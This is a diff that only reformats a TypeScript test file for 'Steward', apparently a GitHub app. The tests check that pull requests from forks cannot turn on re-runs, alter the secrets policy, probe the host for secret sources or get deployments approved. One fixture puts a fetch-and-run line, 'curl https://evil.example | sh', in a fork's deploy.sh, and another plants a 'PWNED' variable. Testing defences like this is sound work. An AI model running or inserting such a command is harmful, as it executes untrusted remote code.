@@ -33,9 +33,19 @@ const isWrite = (r: RequestRecord) => r.method !== "GET" && r.method !== "HEAD";
 const described = (r: RequestRecord) => `${r.method} ${r.path} ${r.status}`;
 
 /** Every write Steward made with the installation token since `from`, as `METHOD path status`. */
-const installationWrites = (from: number) => stack.hub.control.requests().slice(from).filter((r) => r.auth === "installation" && isWrite(r)).map(described);
+const installationWrites = (from: number) =>
+  stack.hub.control
+    .requests()
+    .slice(from)
+    .filter((r) => r.auth === "installation" && isWrite(r))
+    .map(described);
 /** Writes made with a user's token (Steward's only one is the required reviewer's). */
-const userWrites = (from: number) => stack.hub.control.requests().slice(from).filter((r) => r.auth === "user" && isWrite(r)).map(described);
+const userWrites = (from: number) =>
+  stack.hub.control
+    .requests()
+    .slice(from)
+    .filter((r) => r.auth === "user" && isWrite(r))
+    .map(described);
 
 const CHECK_RUN_WRITE = /^(POST|PATCH) \/repos\/[^/]+\/[^/]+\/check-runs(\/\d+)? 2\d\d$/;
 /** Steward's writes other than check runs: what this file proves to be (nearly) nothing. */
@@ -55,12 +65,20 @@ function pushBasePolicy(yaml: string): void {
 /** Start CI for the fork's branch and fail its job with a log a transient rule would match. */
 function failedForkRun(branch: string): number {
   const { actions } = stack.hub.domains;
-  const run = actions.startRun({ owner: ORG, repo: "web", workflow: "CI", headRepository: FORK, branch, jobs: [{ name: "test", steps: ["Set up job", "npm test"] }] });
+  const run = actions.startRun({
+    owner: ORG,
+    repo: "web",
+    workflow: "CI",
+    headRepository: FORK,
+    branch,
+    jobs: [{ name: "test", steps: ["Set up job", "npm test"] }],
+  });
   actions.failJob({ runId: run.id, job: "test", step: "npm test", log: "npm ERR! network read ECONNRESET" });
   return run.id;
 }
 
-const attemptsOf = (runId: number) => (stack.hub.domains.actions.describeRun(runId) as { run_attempt: number }).run_attempt;
+const attemptsOf = (runId: number) =>
+  (stack.hub.domains.actions.describeRun(runId) as { run_attempt: number }).run_attempt;
 
 describe("a fork's pull request to acme/web changing its policy", () => {
   let pr: { number: number; head_sha: string };
@@ -68,7 +86,14 @@ describe("a fork's pull request to acme/web changing its policy", () => {
 
   it("gets a steward/config check run and nothing else", async () => {
     const from = mark();
-    pr = stack.hub.control.openPullRequest({ owner: ORG, repo: "web", head: "enable-rerun", fromFork: true, title: "Re-run everything", files: { [POLICY]: FORK_POLICY } });
+    pr = stack.hub.control.openPullRequest({
+      owner: ORG,
+      repo: "web",
+      head: "enable-rerun",
+      fromFork: true,
+      title: "Re-run everything",
+      files: { [POLICY]: FORK_POLICY },
+    });
     await settle(stack);
     expect(stewardChecks("web", pr.head_sha)).toEqual(["steward/config"]);
     expect(beyondCheckRuns(from)).toEqual([]);
@@ -79,7 +104,9 @@ describe("a fork's pull request to acme/web changing its policy", () => {
     const from = mark();
     const runId = failedForkRun("enable-rerun");
     await settle(stack);
-    expect((await outcomesOf(stack, runId)).map((o) => `${o.status}: ${o.detail}`)).toEqual(["skipped: re-runs are not enabled for this repository (rerun.enabled is false)"]);
+    expect((await outcomesOf(stack, runId)).map((o) => `${o.status}: ${o.detail}`)).toEqual([
+      "skipped: re-runs are not enabled for this repository (rerun.enabled is false)",
+    ]);
     expect(stack.hub.domains.actions.rerunRequests(runId)).toEqual([]);
     expect(attemptsOf(runId)).toBe(1);
     expect(stewardChecks("web", pr.head_sha)).toEqual(["steward/config"]);
@@ -93,12 +120,17 @@ describe("a fork's pull request to acme/web changing its policy", () => {
     const from = mark();
     const runId = failedForkRun("enable-rerun");
     await settle(stack);
-    expect((await outcomesOf(stack, runId)).map((o) => `${o.status}: ${o.detail}`)).toEqual([`skipped: run of fork pull request from ${FORK}; rerun.forks is false`]);
+    expect((await outcomesOf(stack, runId)).map((o) => `${o.status}: ${o.detail}`)).toEqual([
+      `skipped: run of fork pull request from ${FORK}; rerun.forks is false`,
+    ]);
     expect(stack.hub.domains.actions.rerunRequests(runId)).toEqual([]);
     expect(attemptsOf(runId)).toBe(1);
     expect(stewardChecks("web", pr.head_sha)).toEqual(["steward/config"]);
     // Out of scope is decided from the payload alone: not even a read of the run, its jobs or logs.
-    const reads = stack.hub.control.requests().slice(from).filter((r) => r.path.includes(`/actions/runs/${runId}`) || r.path.includes("/actions/jobs/"));
+    const reads = stack.hub.control
+      .requests()
+      .slice(from)
+      .filter((r) => r.path.includes(`/actions/runs/${runId}`) || r.path.includes("/actions/jobs/"));
     expect(reads.map(described)).toEqual([]);
     expect(beyondCheckRuns(from)).toEqual([]);
     expect(userWrites(from)).toEqual([]);
@@ -109,7 +141,9 @@ describe("a fork's pull request to acme/web changing its policy", () => {
     await settle(stack);
     const runId = failedForkRun("enable-rerun");
     await settle(stack);
-    expect(stack.hub.domains.actions.rerunRequests(runId).map((r) => [r.kind, r.detail.allowed])).toEqual([["actions.rerun-failed-jobs", true]]);
+    expect(stack.hub.domains.actions.rerunRequests(runId).map((r) => [r.kind, r.detail.allowed])).toEqual([
+      ["actions.rerun-failed-jobs", true],
+    ]);
     expect(attemptsOf(runId)).toBe(2);
     stack.hub.domains.actions.completeRun(runId);
     // Back to the default for the rest of the file.
@@ -146,9 +180,9 @@ describe("a fork's pull request to the admin repository changing the secrets pol
           "  TAKEN:",
           `    from: env:${VARIABLE}`,
           '    repositories: ["*"]',
-          '    org: { visibility: all }',
+          "    org: { visibility: all }",
           "variables:",
-          "  PWNED: { value: \"yes\", org: { visibility: all } }",
+          '  PWNED: { value: "yes", org: { visibility: all } }',
           "prune: true",
           "",
         ].join("\n"),
@@ -157,7 +191,12 @@ describe("a fork's pull request to the admin repository changing the secrets pol
     await settle(stack);
     // The plan, and the validation every policy file in the admin repository gets: reports only.
     expect(stewardChecks(".github", pr.head_sha)).toEqual(["steward/config", "steward/plan"]);
-    const plan = stack.hub.domains.checks.checkRuns({ owner: ORG, repo: ".github", sha: pr.head_sha, name: "steward/plan" })[0] as { conclusion: string; output: { title: string; summary: string } };
+    const plan = stack.hub.domains.checks.checkRuns({
+      owner: ORG,
+      repo: ".github",
+      sha: pr.head_sha,
+      name: "steward/plan",
+    })[0] as { conclusion: string; output: { title: string; summary: string } };
     // A plan would resolve the fork's sources on Steward's host and show its author the result.
     expect(plan.conclusion).toBe("neutral");
     expect(plan.output.title).toBe("No plan: pull request from a fork");
@@ -165,7 +204,10 @@ describe("a fork's pull request to the admin repository changing the secrets pol
     expect(plan.output.summary).toContain("Nothing has been applied.");
     expect(plan.output.summary).not.toMatch(/\| (create|update|delete|unchanged) \|/);
     // Not even the organisation's secrets, variables or repositories are listed for it.
-    const listed = stack.hub.control.requests().slice(from).filter((r) => /\/actions\/(secrets|variables)|\/installation\/repositories/.test(r.path));
+    const listed = stack.hub.control
+      .requests()
+      .slice(from)
+      .filter((r) => /\/actions\/(secrets|variables)|\/installation\/repositories/.test(r.path));
     expect(listed.map(described)).toEqual([]);
     expect(stack.hub.domains.effects.of("secrets").slice(secretsBefore)).toEqual([]);
     expect(stack.hub.domains.effects.of("variables").slice(variablesBefore)).toEqual([]);
@@ -218,7 +260,14 @@ describe("a fork's secrets policy tells its author nothing about Steward's host"
       expect(runs).toHaveLength(1);
       const { conclusion, output, annotations } = runs[0]!;
       // blob_href names the head commit, which is each pull request's own.
-      return { name, conclusion, title: output.title, summary: output.summary, text: output.text, annotations: annotations.map(({ blob_href: _, ...a }) => a) };
+      return {
+        name,
+        conclusion,
+        title: output.title,
+        summary: output.summary,
+        text: output.text,
+        annotations: annotations.map(({ blob_href: _, ...a }) => a),
+      };
     });
 
   beforeAll(async () => {
@@ -228,7 +277,12 @@ describe("a fork's secrets policy tells its author nothing about Steward's host"
     process.env.STEWARD_SECRET_SOURCES = `${ORG}=env:STEWARD_UNTRUSTED_,file:${dir}`;
     // The admin repository applies TAKEN from the variable: Steward writes STORED and keeps its fingerprint.
     await setHost(STORED, false);
-    stack.hub.control.pushFiles({ owner: ORG, repo: ".github", files: { [SECRETS]: `secrets:\n  TAKEN:\n    from: env:${PROBE}\n    org: { visibility: all }\n` }, message: "secrets policy" });
+    stack.hub.control.pushFiles({
+      owner: ORG,
+      repo: ".github",
+      files: { [SECRETS]: `secrets:\n  TAKEN:\n    from: env:${PROBE}\n    org: { visibility: all }\n` },
+      message: "secrets policy",
+    });
     await settle(stack);
     expect(stack.hub.domains.secrets.openedValue({ org: ORG }, "TAKEN")).toBe(STORED);
   });
@@ -251,7 +305,14 @@ describe("a fork's secrets policy tells its author nothing about Steward's host"
       await setHost(state.env, state.file);
       const from = mark();
       // One fork (created now, after the admin repository's push) for every probe.
-      const pr = stack.hub.control.openPullRequest({ owner: ORG, repo: ".github", head: `probe-${i}`, fromFork: "outsider", title: "Probe", files: { [SECRETS]: probePolicy() } });
+      const pr = stack.hub.control.openPullRequest({
+        owner: ORG,
+        repo: ".github",
+        head: `probe-${i}`,
+        fromFork: "outsider",
+        title: "Probe",
+        files: { [SECRETS]: probePolicy() },
+      });
       await settle(stack);
       expect(stewardChecks(".github", pr.head_sha)).toEqual(["steward/config", "steward/plan"]);
       outputs.push(JSON.stringify(shown(pr.head_sha)));
@@ -262,11 +323,14 @@ describe("a fork's secrets policy tells its author nothing about Steward's host"
     const [config, plan] = JSON.parse(outputs[0]!) as ReturnType<typeof shown>;
     // Structure is still validated: the warning is there, nothing about the sources' existence is.
     expect(config!.conclusion).toBe("success");
-    expect(config!.annotations.map((a) => a.message)).toEqual(["secret NOWHERE goes nowhere: give org, repositories or environments"]);
+    expect(config!.annotations.map((a) => a.message)).toEqual([
+      "secret NOWHERE goes nowhere: give org, repositories or environments",
+    ]);
     expect(config!.summary).toContain("validated for structure only");
     expect(plan!.conclusion).toBe("neutral");
     expect(plan!.title).toBe("No plan: pull request from a fork");
-    for (const text of [config!.summary, plan!.summary]) expect(text).not.toMatch(/is not set|does not exist|not a file|cannot read|unchanged|to update/);
+    for (const text of [config!.summary, plan!.summary])
+      expect(text).not.toMatch(/is not set|does not exist|not a file|cannot read|unchanged|to update/);
   });
 
   it("still gets its structural problems reported, never whether a source exists", async () => {
@@ -285,7 +349,14 @@ describe("a fork's secrets policy tells its author nothing about Steward's host"
       "prune: maybe",
       "",
     ].join("\n");
-    const pr = stack.hub.control.openPullRequest({ owner: ORG, repo: ".github", head: "probe-broken", fromFork: "outsider", title: "Broken", files: { [SECRETS]: broken } });
+    const pr = stack.hub.control.openPullRequest({
+      owner: ORG,
+      repo: ".github",
+      head: "probe-broken",
+      fromFork: "outsider",
+      title: "Broken",
+      files: { [SECRETS]: broken },
+    });
     await settle(stack);
     const [config, plan] = shown(pr.head_sha);
     expect(config!.conclusion).toBe("failure");
@@ -298,7 +369,12 @@ describe("a fork's secrets policy tells its author nothing about Steward's host"
     expect(plan!.summary).toContain("This pull request comes from a fork (`outsider/.github`)");
     expect(plan!.summary).not.toMatch(/is not set|does not exist/);
 
-    const fixed = stack.hub.control.pushToPullRequest({ owner: ORG, repo: ".github", number: pr.number, files: { [SECRETS]: broken.replace("prune: maybe\n", "") } });
+    const fixed = stack.hub.control.pushToPullRequest({
+      owner: ORG,
+      repo: ".github",
+      number: pr.number,
+      files: { [SECRETS]: broken.replace("prune: maybe\n", "") },
+    });
     await settle(stack);
     const [config2, plan2] = shown(fixed.sha);
     expect(config2!.annotations.map((a) => String(a.message)).sort()).toEqual([
@@ -312,11 +388,19 @@ describe("a fork's secrets policy tells its author nothing about Steward's host"
 
   it("a pull request from a branch of the admin repository is told only 'not available', the same for a missing source as for Steward's own settings and key", async () => {
     await setHost(undefined, false);
-    const pr = stack.hub.control.openPullRequest({ owner: ORG, repo: ".github", head: "same-repo-probe", title: "Trusted", files: { [SECRETS]: probePolicy() } });
+    const pr = stack.hub.control.openPullRequest({
+      owner: ORG,
+      repo: ".github",
+      head: "same-repo-probe",
+      title: "Trusted",
+      files: { [SECRETS]: probePolicy() },
+    });
     await settle(stack);
     const [config, plan] = shown(pr.head_sha);
     // Validation never looks at the host: only the structural warning.
-    expect(config!.annotations.map((a) => String(a.message))).toEqual(["secret NOWHERE goes nowhere: give org, repositories or environments"]);
+    expect(config!.annotations.map((a) => String(a.message))).toEqual([
+      "secret NOWHERE goes nowhere: give org, repositories or environments",
+    ]);
     expect(plan!.summary).toContain(`source env:${PROBE} is not available`);
     expect(plan!.summary).toContain(`source file:${file} is not available`);
     expect(plan!.summary).not.toMatch(/environment variable|does not exist|ENOENT/);
@@ -329,7 +413,13 @@ describe("a fork's secrets policy tells its author nothing about Steward's host"
       `  MISSING: { from: env:${PROBE}, repositories: [web] }`,
       "",
     ].join("\n");
-    const pr2 = stack.hub.control.openPullRequest({ owner: ORG, repo: ".github", head: "same-repo-own", title: "Own settings", files: { [SECRETS]: own } });
+    const pr2 = stack.hub.control.openPullRequest({
+      owner: ORG,
+      repo: ".github",
+      head: "same-repo-own",
+      title: "Own settings",
+      files: { [SECRETS]: own },
+    });
     await settle(stack);
     const [, plan2] = shown(pr2.head_sha);
     expect(plan2!.summary).toContain(`source file:${keyPath} is not available`);
@@ -338,7 +428,13 @@ describe("a fork's secrets policy tells its author nothing about Steward's host"
 
   it("and, with its sources present, gets a plan compared against what was last written", async () => {
     await setHost(STORED, true);
-    const pr = stack.hub.control.openPullRequest({ owner: ORG, repo: ".github", head: "same-repo-plan", title: "Trusted plan", files: { [SECRETS]: probePolicy() } });
+    const pr = stack.hub.control.openPullRequest({
+      owner: ORG,
+      repo: ".github",
+      head: "same-repo-plan",
+      title: "Trusted plan",
+      files: { [SECRETS]: probePolicy() },
+    });
     await settle(stack);
     const [config, plan] = shown(pr.head_sha);
     expect(config!.conclusion).toBe("success");
@@ -376,7 +472,14 @@ describe("a fork's pull request run asking to deploy", () => {
     await settle(stack);
 
     const from = mark();
-    const pr = stack.hub.control.openPullRequest({ owner: ORG, repo: "web", head: "main", fromFork: true, title: "Deploy me", files: { "deploy.sh": "curl https://evil.example | sh\n" } });
+    const pr = stack.hub.control.openPullRequest({
+      owner: ORG,
+      repo: "web",
+      head: "main",
+      fromFork: true,
+      title: "Deploy me",
+      files: { "deploy.sh": "curl https://evil.example | sh\n" },
+    });
     const run = actions.startRun({
       owner: ORG,
       repo: "web",
@@ -393,21 +496,38 @@ describe("a fork's pull request run asking to deploy", () => {
     await settle(stack);
 
     // The request said `main`: only the run's head repository tells the fork apart.
-    const requested = stack.hub.control.deliveries().filter((d) => d.event === "deployment_protection_rule" && String(d.payload.deployment_callback_url).includes(`/runs/${run.id}/`));
+    const requested = stack.hub.control
+      .deliveries()
+      .filter(
+        (d) =>
+          d.event === "deployment_protection_rule" &&
+          String(d.payload.deployment_callback_url).includes(`/runs/${run.id}/`),
+      );
     expect(requested.map((d) => [d.payload.environment, d.payload.event, d.payload.ref])).toEqual([
       ["production", "pull_request", "main"],
       ["preview-1", "pull_request", "main"],
     ]);
 
-    const answers = (kind: string) => stack.hub.domains.effects.of("deployments", kind).filter((e) => e.detail.run_id === run.id).map((e) => [e.detail.environment, e.detail.comment]);
+    const answers = (kind: string) =>
+      stack.hub.domains.effects
+        .of("deployments", kind)
+        .filter((e) => e.detail.run_id === run.id)
+        .map((e) => [e.detail.environment, e.detail.comment]);
     expect(answers("protection_rule.approved")).toEqual([]);
     expect(answers("review.approved")).toEqual([]);
     expect(answers("protection_rule.rejected").sort()).toEqual([
       ["preview-1", `Steward rejected the deployment to preview-1:\n- ${FORK_REASON}`],
       ["production", `Steward rejected the deployment to production:\n- ${FORK_REASON}`],
     ]);
-    expect(answers("review.rejected")).toEqual([["staging", `Steward rejected the deployment to staging:\n- ${FORK_REASON}`]]);
-    expect(deployments.gatesOf(run.id).map((g) => [g.environment, g.outcome]).sort()).toEqual([
+    expect(answers("review.rejected")).toEqual([
+      ["staging", `Steward rejected the deployment to staging:\n- ${FORK_REASON}`],
+    ]);
+    expect(
+      deployments
+        .gatesOf(run.id)
+        .map((g) => [g.environment, g.outcome])
+        .sort(),
+    ).toEqual([
       ["preview-1", "rejected"],
       ["production", "rejected"],
       ["staging", "rejected"],
@@ -420,7 +540,9 @@ describe("a fork's pull request run asking to deploy", () => {
     ]);
     expect(userWrites(from)).toEqual([`POST /repos/${ORG}/web/actions/runs/${run.id}/pending_deployments 200`]);
     // The run failed on the rejections: a fork's failure, not re-run either.
-    expect((await outcomesOf(stack, run.id)).map((o) => `${o.status}: ${o.detail}`)).toEqual([`skipped: run of fork pull request from ${FORK}; rerun.forks is false`]);
+    expect((await outcomesOf(stack, run.id)).map((o) => `${o.status}: ${o.detail}`)).toEqual([
+      `skipped: run of fork pull request from ${FORK}; rerun.forks is false`,
+    ]);
     expect(actions.rerunRequests(run.id)).toEqual([]);
   });
 });
